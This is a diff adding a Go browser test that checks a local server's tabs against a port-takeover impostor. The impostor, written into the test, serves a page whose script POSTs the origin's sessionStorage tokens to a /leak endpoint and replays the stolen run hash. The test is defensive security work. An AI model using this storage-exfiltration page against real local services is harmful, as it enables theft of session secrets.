@@ -12,6 +12,7 @@ import (
 	"path/filepath"
 	"strconv"
 	"strings"
+	"sync"
 	"sync/atomic"
 	"testing"
 	"time"
@@ -359,5 +360,150 @@ func TestServePageInBrowser(t *testing.T) {
 	time.Sleep(500 * time.Millisecond)
 	if n := posts.Load(); n != 0 {
 		t.Errorf("the impostor received %d uploads", n)
+	}
+}
+
+// One reloaded tab does not vouch for another: two tabs hold the page,
+// gbo stops, another program takes its port and serves a page that reads
+// this origin's sessionStorage; the first tab is reloaded onto it and
+// hands it the storage (the token and the run hash), and the program
+// answers /api/alive with what it learnt. The second tab's upload is
+// still withheld (the run hash is no answer to its own check), the tab
+// says gbo has stopped and its storage is cleared. Skipped without
+// Chromium unless GBO_BROWSER_TEST=require.
+func TestServeReloadedTabCannotVouch(t *testing.T) {
+	bin := browsertest.FindChromium()
+	if bin == "" {
+		if os.Getenv("GBO_BROWSER_TEST") == "require" {
+			t.Fatal("GBO_BROWSER_TEST=require, but no chromium or google-chrome on PATH")
+		}
+		t.Skip("no chromium on PATH (set GBO_BROWSER_TEST=require to make this a failure)")
+	}
+	lns, err := listenLoopback(0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	s, err := newServer(serveOptions{lang: "en"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	s.port = lns[0].Addr().(*net.TCPAddr).Port
+	ctx, cancel := context.WithCancel(context.Background())
+	done := make(chan error, 1)
+	go func() { done <- s.serve(ctx, lns) }()
+	stopped := false
+	t.Cleanup(func() {
+		if !stopped {
+			cancel()
+			<-done
+		}
+	})
+
+	c := browsertest.Start(t, bin)
+	c.Call("Page.enable", nil)
+	c.Call("Page.navigate", map[string]any{"url": s.url()})
+	c.WaitEvent("Page.loadEventFired")
+	var tab struct {
+		TargetID string `json:"targetId"`
+	}
+	json.Unmarshal(c.Call("Target.createTarget", map[string]any{"url": s.url()}), &tab)
+	var att struct {
+		SessionID string `json:"sessionId"`
+	}
+	json.Unmarshal(c.Call("Target.attachToTarget", map[string]any{"targetId": tab.TargetID, "flatten": true}), &att)
+	tab2 := att.SessionID
+	waitIn := func(session, what, cond string) {
+		t.Helper()
+		deadline := time.Now().Add(30 * time.Second)
+		for {
+			var ok bool
+			if session == "" {
+				c.Eval(`!!(`+cond+`)`, &ok)
+			} else {
+				c.EvalIn(session, `!!(`+cond+`)`, &ok)
+			}
+			if ok {
+				return
+			}
+			if time.Now().After(deadline) {
+				t.Fatalf("%s: %s never held", what, cond)
+			}
+			time.Sleep(100 * time.Millisecond)
+		}
+	}
+	ready := `document.readyState === "complete" && document.querySelectorAll("#sample option").length > 1`
+	waitIn("", "tab 1", ready)
+	waitIn(tab2, "tab 2", ready)
+
+	cancel()
+	<-done
+	stopped = true
+	var mu sync.Mutex
+	var leaked map[string]string
+	var posts atomic.Int32
+	imp := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch {
+		case r.URL.Path == "/leak":
+			var m map[string]string
+			json.NewDecoder(r.Body).Decode(&m)
+			mu.Lock()
+			leaked = m
+			mu.Unlock()
+		case r.URL.Path == "/api/alive":
+			mu.Lock()
+			run := leaked["gbo-run"]
+			mu.Unlock()
+			w.Header().Set("Content-Type", "application/json")
+			json.NewEncoder(w).Encode(map[string]string{"run": run})
+		case r.Method == http.MethodPost:
+			posts.Add(1)
+			w.Header().Set("Content-Type", "application/json")
+			w.Write([]byte(`{"view":"/x","warnings":[]}`))
+		default:
+			w.Header().Set("Content-Type", "text/html")
+			w.Write([]byte(`<!DOCTYPE html><title>impostor</title><script>fetch("/leak", {method: "POST", body: JSON.stringify(Object.assign({}, sessionStorage))})</script>`))
+		}
+	})}
+	for _, ln := range lns {
+		il, err := net.Listen(ln.Addr().Network(), ln.Addr().String())
+		if err != nil {
+			t.Fatalf("impostor: %v", err)
+		}
+		go imp.Serve(il)
+	}
+	defer imp.Close()
+
+	c.Call("Page.reload", nil)
+	for deadline := time.Now().Add(20 * time.Second); ; time.Sleep(100 * time.Millisecond) {
+		mu.Lock()
+		got := leaked
+		mu.Unlock()
+		if got != nil {
+			if got["gbo-token"] != s.token || got["gbo-run"] != s.runHash {
+				t.Fatalf("the reloaded tab's storage: %v", got)
+			}
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatal("the impostor never read the reloaded tab's storage")
+		}
+	}
+	c.EvalIn(tab2, `(function () {
+		var s = document.getElementById("sample");
+		s.value = s.options[1].value;
+		s.dispatchEvent(new Event("change"));
+		document.getElementById("go").click();
+		return true;
+	})()`, nil)
+	waitIn(tab2, "tab 2 stopped", `document.getElementById("status").textContent === `+strconv.Quote(serveT("en", "stopped"))+` && document.getElementById("files").disabled`)
+	c.EvalIn(tab2, `document.getElementById("dl-forms").click(), true`, nil)
+	time.Sleep(500 * time.Millisecond)
+	if n := posts.Load(); n != 0 {
+		t.Errorf("the impostor received %d uploads from the other tab", n)
+	}
+	var kept int
+	c.EvalIn(tab2, `sessionStorage.length`, &kept)
+	if kept != 0 {
+		t.Errorf("the stopped tab keeps %d items in sessionStorage", kept)
 	}
 }
